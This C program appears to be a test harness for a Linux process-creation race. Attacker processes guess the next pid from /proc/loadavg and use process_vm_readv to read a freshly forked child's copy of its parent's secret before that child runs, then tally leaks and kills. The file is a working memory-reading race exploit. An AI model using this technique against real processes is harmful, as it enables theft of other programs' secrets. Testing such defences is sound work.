/*
 * A race for a new process: it is in the table of pids, with a copy of its parent's secret, before it
 * has run for the first time.
 *
 *   race breed                         tells where the secret is, then forks children that end at once
 *   race guess ADDRESS SECONDS MOST    attackers, one after the other, read from the pid that comes next
 *
 * An attacker ends with its first success or its death.  The parent, which shares a page with each,
 * tells {"attackers", "killed", "leaked"} after SECONDS or after MOST of them were killed or got it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SECRET "a secret of the parent"
#define GUESSES 100000

static char secret[sizeof(SECRET)];

static void breed(void)
{
	/* Written at run time: the attacker, the same program, does not have it. */
	memcpy(secret, SECRET, sizeof(SECRET));
	printf("%p\n", (void *)secret);
	fflush(stdout);
	for (;;) {
		pid_t child = fork();

		if (!child)
			_exit(0);
		waitpid(child, NULL, 0);
	}
}

/* The pid that was given out last: the last word of /proc/loadavg. */
static pid_t last_pid(int loadavg)
{
	char text[128];
	ssize_t size = pread(loadavg, text, sizeof(text) - 1, 0);

	if (size <= 0)
		_exit(1);
	text[size] = 0;
	return atoi(strrchr(text, ' ') + 1);
}

static void guess(void *address, char *shared)
{
	struct iovec local = { shared, sizeof(SECRET) };
	struct iovec remote = { address, sizeof(SECRET) };
	int loadavg = open("/proc/loadavg", O_RDONLY);

	for (int i = 0; i < GUESSES; i++) {
		pid_t last = last_pid(loadavg);

		for (pid_t next = last + 1; next <= last + 2; next++) {
			process_vm_readv(next, &local, 1, &remote, 1, 0);
			if (!strcmp(shared, SECRET))
				_exit(0);
		}
	}
	_exit(0);
}

static void guess_all(void *address, int seconds, int most)
{
	char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int attackers = 0, killed = 0, leaked = 0, status;
	time_t end = time(NULL) + seconds;

	while (time(NULL) < end && killed + leaked < most) {
		pid_t attacker;

		memset(shared, 0, sizeof(SECRET));
		attacker = fork();
		if (!attacker)
			guess(address, shared);
		waitpid(attacker, &status, 0);
		attackers++;
		killed += WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
		leaked += !strcmp(shared, SECRET);
	}
	printf("{\"attackers\": %d, \"killed\": %d, \"leaked\": %d}\n", attackers, killed, leaked);
}

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "breed"))
		breed();
	if (argc == 5 && !strcmp(argv[1], "guess"))
		guess_all((void *)strtoul(argv[2], NULL, 16), atoi(argv[3]), atoi(argv[4]));
	return 0;
}
